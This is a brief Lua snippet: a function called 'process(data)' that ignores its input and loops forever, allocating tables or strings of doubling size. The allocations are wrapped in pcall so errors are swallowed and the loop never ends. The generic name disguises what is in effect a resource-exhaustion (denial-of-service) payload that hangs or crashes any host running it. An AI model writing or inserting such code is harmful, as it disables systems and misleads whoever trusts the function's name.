function process(data)
  local size = 1
  while true do
    pcall(table.create or string.rep, size, 0)
    size = size * 2
    if size > 1000000000000 then size = 1000 end
  end
end
